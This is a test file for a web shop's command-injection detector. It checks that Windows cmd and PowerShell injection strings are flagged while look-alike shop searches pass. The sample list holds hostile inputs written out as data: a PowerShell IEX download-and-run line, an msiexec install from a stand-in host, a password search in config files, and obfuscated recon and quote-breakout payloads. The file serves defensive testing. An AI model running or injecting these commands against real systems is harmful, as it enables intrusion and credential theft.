// The shell reader on what cmd.exe and PowerShell do before a command runs: `%x%` and `!x!`
// (delayed expansion) around a command are a variable, empty when unset, so the command runs;
// the system's own variables (`%comspec%`, `%systemroot%`) no shop text holds; the SUB character
// ending a command as a newline does; bash's `!` before a pipeline; carets and variable slices
// (`%comspec:~-16,1%`); CALL and START; PowerShell given a cmdlet, an alias or script as its
// command line. Defanged samples written here, beside shop searches
// (LIKE patterns with `%`, exclamations, book titles) that look alike.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { detectCmdi } from '../../../src/detect/cmdi.ts';
import { flagged } from './requests.ts';

const samples = [
  // a recon command inside cmd's expansion characters, whole or half
  '%whoami%',
  '!whoami!',
  '%!whoami!%',
  '!%whoami',
  '%uname%|x',
  // … or after a separator
  'x | %whoami%',
  'x & !whoami!',
  // the system's own variables: the shell, the Windows folder
  '%COMSPEC% /c dir',
  '& %comspec% /c ver',
  '%SystemRoot%',
  'x %windir%',
  // SUB (0x1a) ends a command
  'somedir \x1a whoami',
  // bash's negation (escaped or not) opening a pipeline
  '\\! whoami',
  '! uname -a',
  // carets inside a word (cmd's escape character) and slices of a variable
  'w^h^o^a^m^i',
  'x & w^h^o^a^m^i',
  '%comspec:~-16,1%',
  'c%ProgramFiles:~10,1%d',
  // CALL and START run the command after them; a command given a variable after a separator
  'x & call whoami',
  'x | start "" /b whoami',
  '& echo %path%',
  'x & dir %userprofile%',
  // Windows' script hosts, installers and admin tools after `&`; admin commands after a separator
  'x & wscript c:/demo.vbs',
  'x & msiexec /q /i http://x.example/a.msi',
  'x & findstr /s password *.config',
  'x & qwinsta',
  'x & route print',
  'x | sc qc demo',
  // PowerShell with a cmdlet, an alias or script as its command line
  'powershell IEX(New-Object Net.WebClient).DownloadString(x)',
  'pwsh get-content c:/demo.txt',
  'powershell.exe $x',
  'iex(new-object net.webclient)',
  "iex 'x'",
  // a batch for loop with a switch, and cmd.exe given a command line, wherever they stand: after
  // the quote a value breaks out of, or glued to the value (commix's payloads without a separator)
  `127.0.0.1'for /f "tokens=*" %i in ('cmd /c "hostname"') do @set /p = XY%iXY`,
  `127.0.0.1for /f "tokens=*" %i in ('cmd /c "set /a (11+22)"') do @set /p = XY%iXY`,
  "127.0.0.1'cmd /c hostname",
  'x" cmd.exe /k dir',
];

const shop = [
  // LIKE patterns and percentages
  '%id%',
  '%shirt%',
  '%sale%',
  '50% off %summer%',
  '100%cotton',
  '%temp% sensor',
  // exclamations
  '!id!',
  'wow!',
  '!!!sale!!!',
  'yahoo! mail',
  '! new arrivals',
  // formulas, songs, a variable-like word opening a value
  '2^3 cubes',
  'x^2 + y^2',
  'call me maybe',
  'start here',
  'rock & call me',
  'tom & start now',
  'echo %dot%',
  'ratio 3:~1',
  // words after `&` in names and lists
  'tom & tree lights',
  'salt & pepper set',
  'bus & route map',
  // book titles
  'powershell cookbook',
  'powershell (3rd edition)',
  'powershell in action',
  'learn windows powershell',
  'iex trading',
  // keyboard shortcuts and loops in prose
  'cmd/ctrl c',
  'cmd + c copies',
  'for fun in (summer) do more',
  'format for /f',
];

test('cmd expansion, system variables, SUB, `!` and PowerShell command lines are read as shell', () => {
  for (const s of samples) assert.notEqual(detectCmdi(s), null, s);
  for (const s of shop) assert.equal(detectCmdi(s), null, s);
});

test('the shipped rules find them in a query, a path segment and a REST id (the gate lets them through)', () => {
  for (const s of samples) {
    const v = encodeURIComponent(s);
    assert.ok(flagged('cmdi', '/search', `q=${v}`), `query ${s}`);
    if (!s.includes('/')) {
      assert.ok(flagged('cmdi', `/catalog/product/view/id/${v}`, ''), `path ${s}`);
      assert.ok(flagged('cmdi', `/rest/V1/orders/${v}/items`, ''), `rest ${s}`);
    }
  }
  for (const s of shop) assert.ok(!flagged('cmdi', '/search', `q=${encodeURIComponent(s)}`), s);
});

test('property: a recon command in any pair of cmd expansion characters is found, encoded once or twice', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('whoami', 'ipconfig', 'systeminfo', 'tasklist', 'netstat'),
      fc.constantFrom('', '%', '!', '%!', '!%'),
      fc.constantFrom('', '%', '!', '%!', '!%'),
      fc.boolean(),
      (cmd, open, close, twice) => {
        const once = encodeURIComponent(`${open}${cmd}${close}`);
        return flagged('cmdi', '/search', `q=${twice ? encodeURIComponent(once) : once}`);
      },
    ),
    { numRuns: 60 },
  );
});

test('property: a word that is no command stays unflagged in the same characters', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('id', 'shirt', 'red', 'sale', 'shoes', 'gift', 'lamp'),
      fc.constantFrom('%', '!', '%!', '!%'),
      (w, d) => !flagged('cmdi', '/search', `q=${encodeURIComponent(`${d}${w}${[...d].reverse().join('')}`)}`),
    ),
    { numRuns: 40 },
  );
});

test('property: carets anywhere inside a recon command leave the command (cmd drops them), through the gate', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('whoami', 'ipconfig', 'systeminfo', 'tasklist', 'netstat'),
      fc.array(fc.boolean(), { minLength: 12, maxLength: 12 }),
      fc.constantFrom('', 'x & ', 'x | '),
      (cmd, marks, before) => {
        const caret = [...cmd].map((c, i) => (i > 0 && marks[i] === true ? `^${c}` : c)).join('');
        return flagged('cmdi', '/search', `q=${encodeURIComponent(before + caret)}`);
      },
    ),
    { numRuns: 60 },
  );
});
